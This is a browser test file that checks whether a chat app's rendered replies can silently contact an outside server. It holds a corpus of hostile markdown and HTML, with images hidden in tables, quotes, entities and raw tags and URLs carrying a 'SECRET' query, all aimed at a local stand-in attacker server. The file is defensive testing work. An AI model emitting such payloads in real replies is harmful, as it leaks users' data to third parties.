// Safe rendering in real headless Chromium: a reply's markdown loads nothing by itself.
// The mock server echoes the user's message as the answer, so a corpus of hostile
// markdown (images inline, reference-style defined later, in tables, quotes, headings
// and lists, protocol-relative, upper-case schemes, entities, raw HTML) is sent as the
// message. A second local server plays the attacker and logs every request it gets; the
// test also listens to Playwright's request events. Nothing may reach the attacker while
// the answer streams, after it is done, or after a reload, until "Load image" is clicked,
// which fetches exactly that image. Also: links need a click and show their host; the
// "Load images automatically from these hosts" setting loads an allowed host's image
// once; a 1 MB message of the user's own stays responsive (times printed, not asserted)
// and is shown shortened until asked for the whole.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import zlib from 'node:zlib';
import { setTimeout as sleep } from 'node:timers/promises';
import { screenshot, waitUntil } from '../support/browser.mjs';
import { openChatWithProvider, sendMessage, settled, useHarness } from '../support/chat.mjs';

const WAIT_MS = 30_000;
// No scenario has this name, so the mock echoes the message back.
const ECHO_MODEL = 'echo-safe-rendering';

/** A real PNG: `size`×`size` pixels of one colour (8-bit RGB). */
function png(size, [r, g, b]) {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes) => {
    let c = 0xffffffff;
    for (const byte of bytes) c = crcTable[(c ^ byte) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: size }, () => [r, g, b]).flat())]);
  const pixels = zlib.deflateSync(Buffer.concat(Array.from({ length: size }, () => row)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * The attacker: logs every request. `/img/*.png` is a PNG anyone may read (CORS `*`),
 * `/nocors/*.png` a PNG without CORS headers, `/big/*` 11 MB without a length, anything else a page.
 */
function startAttacker() {
  const requests = [];
  const image = png(24, [220, 80, 40]);
  const server = http.createServer((req, res) => {
    requests.push({ method: req.method, url: req.url, headers: req.headers });
    if (req.url.startsWith('/img/')) {
      res.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' });
      res.end(image);
    } else if (req.url.startsWith('/big/')) {
      // 11 MB of "image" with no length given: the reader must stop at 10 MB.
      res.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' });
      const chunk = Buffer.alloc(1024 * 1024, 7);
      let sent = 0;
      const more = () => {
        while (sent < 11 && !res.destroyed) {
          sent += 1;
          if (!res.write(chunk)) return res.once('drain', more);
        }
        res.end();
      };
      more();
    } else if (req.url.startsWith('/nocors/')) {
      res.writeHead(200, { 'content-type': 'image/png' });
      res.end(image);
    } else {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<p>attacker page</p>');
    }
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address();
      resolve({ port, requests, close: () => new Promise((done) => server.close(done)) });
    });
  });
}

/** The hostile corpus, every address on the attacker's server. */
function corpus(port) {
  const at = `127.0.0.1:${port}`;
  return [
    `Inline ![cat](http://${at}/img/cat.png?q=SECRET) and ![dog](http://${at}/img/dog.png).`,
    '',
    `Reference style ![refimg][later] defined below.`,
    '',
    `| col | image |`,
    `|-----|-------|`,
    `| one | ![incell](http://${at}/img/cell.png) |`,
    '',
    `> quoted ![inquote](http://${at}/img/quote.png)`,
    '',
    `## Heading ![inheading](http://${at}/img/heading.png)`,
    '',
    `- item ![inlist](http://${at}/img/list.png)`,
    `  1. nested ![innested](http://${at}/img/nested.png)`,
    '',
    `Protocol-relative ![protorel](//${at}/img/proto.png), upper-case ![upper](HTTP://${at.toUpperCase()}/img/UPPER.png),`,
    `entities ![entity](http&#58;//${at}/img/entity.png) and ![entity2](&#x68;ttp://${at}/img/entity2.png).`,
    '',
    `Raw <img src="http://${at}/img/raw.png"> <video poster="http://${at}/img/poster.png"></video>`,
    `<div style="background:url(http://${at}/img/bg.png)">styled</div> <link rel="stylesheet" href="http://${at}/s.css">`,
    '',
    `A link: [the docs](http://${at}/page?q=SECRET) and an autolink <http://${at}/auto>.`,
    '',
    `[later]: http://${at}/img/ref.png`,
  ].join('\n');
}

describe('safe rendering', () => {
  const env = useHarness();
  let attacker;

  before(async () => {
    attacker = await startAttacker();
  });

  after(() => attacker?.close());

  /** Opens the app in a fresh context with the echoing provider; logs every browser request to the attacker. */
  async function openChat(t, model = ECHO_MODEL) {
    const seen = [];
    const chat = await openChatWithProvider(t, env, {
      scenario: model,
      timeout: WAIT_MS,
      beforeLoad: (context) =>
        context.on('request', (request) => {
          if (new URL(request.url()).port === String(attacker.port)) seen.push(request.url());
        }),
    });
    return { ...chat, seen };
  }

  function assertNothingRequested(chat, when) {
    assert.deepEqual(attacker.requests.map((r) => r.url), [], `the attacker's server got no request ${when}`);
    assert.deepEqual(chat.seen, [], `the browser sent no request to the attacker ${when}`);
  }

  test('images wait for a click, links need one, and nothing reaches the attacker before', async (t) => {
    attacker.requests.length = 0;
    const chat = await openChat(t);
    const host = `127.0.0.1:${attacker.port}`;
    await sendMessage(chat, corpus(attacker.port));
    // While the answer streams (the echo takes a few seconds), check repeatedly.
    await chat.reply.waitFor();
    let checks = 0;
    while ((await chat.reply.getAttribute('aria-busy')) === 'true') {
      assertNothingRequested(chat, 'while the answer streams');
      checks += 1;
      await sleep(100);
    }
    assert.ok(checks > 3, `the answer was checked while it streamed (${checks} times)`);
    await settled(chat, WAIT_MS);
    await sleep(500);
    assertNothingRequested(chat, 'after the answer is done');

    const reply = chat.reply;
    const loadButtons = reply.getByRole('button', { name: /^Load image / });
    const names = await loadButtons.evaluateAll((buttons) => buttons.map((b) => b.getAttribute('aria-label')));
    for (const alt of ['cat', 'dog', 'refimg', 'incell', 'inquote', 'inheading', 'inlist', 'innested', 'upper', 'entity', 'entity2']) {
      assert.ok(names.includes(`Load image ${alt} from ${host}`), `a placeholder for ${alt}: ${names.join(' | ')}`);
    }
    assert.ok(names.includes(`Load image protorel from ${host}`), 'the protocol-relative image is a placeholder');
    assert.equal(await reply.getByRole('img').count(), 0, 'no image element in the reply');
    const text = await reply.innerText();
    assert.match(text, /<img src=/, 'raw HTML is shown as text');
    // No element of the reply references the attacker except links and the placeholders' data.
    const references = await reply.evaluate((root, port) => {
      const found = [];
      for (const element of root.querySelectorAll('*')) {
        for (const attribute of element.attributes) {
          if (!attribute.value.includes(`:${port}`)) continue;
          const allowed =
            (element.tagName === 'A' && ['href', 'title'].includes(attribute.name)) ||
            (element.tagName === 'BUTTON' && ['data-image-url', 'aria-label'].includes(attribute.name));
          if (!allowed) found.push(`${element.tagName.toLowerCase()}[${attribute.name}]`);
        }
      }
      return found;
    }, String(attacker.port));
    assert.deepEqual(references, [], 'no fetching attribute names the attacker');

    // The link: needs a click, opens without opener or referrer, shows its host and full address.
    const link = reply.getByRole('link', { name: 'the docs', exact: true });
    const rel = (await link.getAttribute('rel')) ?? '';
    assert.ok(rel.includes('noopener') && rel.includes('noreferrer'), `rel is ${rel}`);
    assert.equal(await link.getAttribute('title'), `http://${host}/page?q=SECRET`, 'the title is the full address');
    assert.match(text, new RegExp(`the docs \\(${host.replace(/\./g, '\\.')}\\)`), 'the host is shown after the link text');
    assert.doesNotMatch(text, new RegExp(`/auto>? \\(${host.replace(/\./g, '\\.')}\\)`), 'an autolink shows no extra host');
    await screenshot(chat.page, 'safe-rendering-placeholders.png');

    await chat.page.reload();
    await settled(chat, WAIT_MS);
    await chat.reply.getByRole('button', { name: `Load image cat from ${host}`, exact: true }).waitFor();
    await sleep(500);
    assertNothingRequested(chat, 'after a reload');

    // One click loads exactly that image, without cookies or referrer, and shows it.
    await chat.reply.getByRole('button', { name: `Load image cat from ${host}`, exact: true }).click();
    const image = chat.reply.getByRole('img', { name: 'cat', exact: true });
    await image.waitFor();
    await waitUntil(() => image.evaluate((img) => img.complete && img.naturalWidth === 24), 'the image is decoded');
    assert.match(await image.getAttribute('src'), /^blob:/, 'shown from a blob: URL');
    assert.deepEqual(attacker.requests.map((r) => r.url), ['/img/cat.png?q=SECRET'], 'exactly the clicked image was fetched');
    assert.equal(attacker.requests[0].headers.referer, undefined, 'no referrer');
    assert.equal(attacker.requests[0].headers.cookie, undefined, 'no cookies');
    assert.deepEqual(chat.seen, [`http://${host}/img/cat.png?q=SECRET`]);
    assert.equal(await chat.reply.getByRole('button', { name: `Load image dog from ${host}` }).count(), 1, 'the others still wait');
    await screenshot(chat.page, 'safe-rendering-loaded.png');

    // From the keyboard: Enter on a focused "Load image" loads it, and focus moves to the image.
    await chat.reply.getByRole('button', { name: `Load image dog from ${host}`, exact: true }).focus();
    await chat.page.keyboard.press('Enter');
    const dog = chat.reply.getByRole('img', { name: 'dog', exact: true });
    await dog.waitFor();
    assert.ok(await dog.evaluate((img) => document.activeElement === img), 'focus is on the loaded image');
    assert.deepEqual(attacker.requests.map((r) => r.url), ['/img/cat.png?q=SECRET', '/img/dog.png']);
    await chat.page.setViewportSize({ width: 390, height: 844 });
    await chat.reply.getByRole('button', { name: `Load image incell from ${host}`, exact: true }).scrollIntoViewIfNeeded();
    await screenshot(chat.page, 'safe-rendering-390.png');
    assert.deepEqual(chat.errors, []);
  });

  test('a refused or too large image gets an explanation and a link', async (t) => {
    attacker.requests.length = 0;
    const chat = await openChat(t);
    const host = `127.0.0.1:${attacker.port}`;
    await sendMessage(chat, `![private](http://${host}/nocors/private.png)`);
    await settled(chat, WAIT_MS);
    assertNothingRequested(chat, 'before the click');
    await chat.reply.getByRole('button', { name: `Load image private from ${host}`, exact: true }).click();
    const status = chat.reply.getByRole('status').filter({ hasText: 'does not allow loading it here' });
    await status.waitFor();
    const open = status.getByRole('link', { name: 'Open image in a new tab', exact: true });
    assert.equal(await open.getAttribute('href'), `http://${host}/nocors/private.png`);
    assert.ok((await open.getAttribute('rel')).includes('noreferrer'));
    assert.deepEqual(attacker.requests.map((r) => r.url), ['/nocors/private.png'], 'one attempt, no more');
    assert.equal(await chat.reply.getByRole('img').count(), 0);

    // An image over 10 MB is refused while it downloads.
    await sendMessage(chat, `![huge](http://${host}/big/huge.png)`);
    await settled(chat, WAIT_MS);
    await chat.reply.getByRole('button', { name: `Load image huge from ${host}`, exact: true }).click();
    const tooLarge = chat.reply.getByRole('status').filter({ hasText: 'too large to load here' });
    await tooLarge.waitFor();
    assert.equal(
      await tooLarge.getByRole('link', { name: 'Open image in a new tab', exact: true }).getAttribute('href'),
      `http://${host}/big/huge.png`,
    );
    assert.equal(await chat.reply.getByRole('img').count(), 0);
    assert.deepEqual(chat.errors, []);
  });

  test('an allowed host loads its images by itself, once; others still wait', async (t) => {
    attacker.requests.length = 0;
    const chat = await openChat(t);
    await chat.page.getByRole('button', { name: 'Settings', exact: true }).click();
    const dialog = chat.page.getByRole('dialog', { name: 'Settings', exact: true });
    const hosts = dialog.getByRole('textbox', { name: 'Load images automatically from these hosts', exact: true });
    assert.equal(await hosts.inputValue(), '', 'no host is allowed by default');
    await hosts.fill('Localhost');
    await hosts.press('Tab');
    await dialog.getByRole('button', { name: 'Close', exact: true }).click();

    const paragraphs = Array.from({ length: 6 }, (_, i) => `Paragraph ${i} after the image, to stream a while.`);
    await sendMessage(
      chat,
      [`![auto](http://localhost:${attacker.port}/img/auto.png) ![manual](http://127.0.0.1:${attacker.port}/img/manual.png)`, '', ...paragraphs].join('\n'),
    );
    const auto = chat.reply.getByRole('img', { name: 'auto', exact: true });
    await auto.waitFor();
    await settled(chat, WAIT_MS);
    await waitUntil(() => auto.evaluate((img) => img.complete && img.naturalWidth === 24), 'the allowed image is decoded');
    await sleep(500);
    assert.deepEqual(attacker.requests.map((r) => r.url), ['/img/auto.png'], 'the allowed image was fetched once, the other not');
    assert.equal(await chat.reply.getByRole('button', { name: `Load image manual from 127.0.0.1:${attacker.port}` }).count(), 1);

    // The setting is stored. (Settings can open before the stored settings are read after a
    // reload; the field shows the stored list once they are.)
    await chat.page.reload();
    await chat.page.getByRole('button', { name: 'Settings', exact: true }).click();
    const stored = dialog.getByRole('textbox', { name: 'Load images automatically from these hosts', exact: true });
    await waitUntil(async () => (await stored.inputValue()) === 'localhost', 'the stored host list is shown after the reload');
    assert.deepEqual(chat.errors, []);
  });

  test('a 1 MB message of your own stays responsive (times printed)', async (t) => {
    // The `markdown` scenario answers briefly (an echo of 1 MB would stream for hours).
    const chat = await openChat(t, 'markdown');
    const line = 'Some text with *stars*, <b>tags</b>, &amp; entities and > quotes that stays plain. ';
    const big = line.repeat(Math.ceil((1024 * 1024) / line.length)).slice(0, 1024 * 1024);
    const fillStart = Date.now();
    await chat.message.fill(big);
    const fillMs = Date.now() - fillStart;
    // Measure the longest main-thread task while sending, saving, indexing and showing it.
    await chat.page.evaluate(() => {
      window.__longest = 0;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) window.__longest = Math.max(window.__longest, entry.duration);
      }).observe({ type: 'longtask', buffered: false });
    });
    const sendStart = Date.now();
    await chat.message.press('Enter');
    const you = chat.page.getByRole('log', { name: 'Conversation', exact: true }).getByRole('article', { name: 'You', exact: true });
    await you.first().waitFor();
    const shownMs = Date.now() - sendStart;
    await settled(chat, WAIT_MS);
    const doneMs = Date.now() - sendStart;
    const longest = await chat.page.evaluate(() => window.__longest);
    const reloadStart = Date.now();
    await chat.page.reload();
    await you.first().waitFor();
    const reloadMs = Date.now() - reloadStart;
    const searchStart = Date.now();
    const search = chat.page.getByRole('searchbox').first();
    if (await search.count()) {
      await search.fill('entities');
      await sleep(50);
    }
    const searchMs = Date.now() - searchStart;
    t.diagnostic(
      `1 MB message: fill ${fillMs} ms, shown ${shownMs} ms after Enter, echo answered ${doneMs} ms, ` +
        `longest task ${Math.round(longest)} ms, reload to shown ${reloadMs} ms, search typed ${searchMs} ms`,
    );
    console.log(`# 1 MB message: fill ${fillMs} ms; shown ${shownMs} ms; answered ${doneMs} ms; longest task ${Math.round(longest)} ms; reload ${reloadMs} ms; search ${searchMs} ms`);
    assert.ok((await you.first().innerText()).includes('<b>tags</b>'), 'the message is shown as typed, as text');
    // A long message shows its beginning; the rest on request.
    const shownLength = await you.first().evaluate((article) => article.querySelector('p').textContent.length);
    assert.ok(shownLength < 20_000, `a preview is shown at first (${shownLength} characters)`);
    const expandStart = Date.now();
    await you.first().getByRole('button', { name: 'Show the whole message (1.0 MB)', exact: true }).click();
    await waitUntil(
      () => you.first().evaluate((article, length) => article.querySelector('p').textContent.length === length, big.length),
      'the whole message is shown',
    );
    const expandMs = Date.now() - expandStart;
    console.log(`# 1 MB message: whole message shown ${expandMs} ms after the click`);
    assert.deepEqual(chat.errors, []);
  });
});
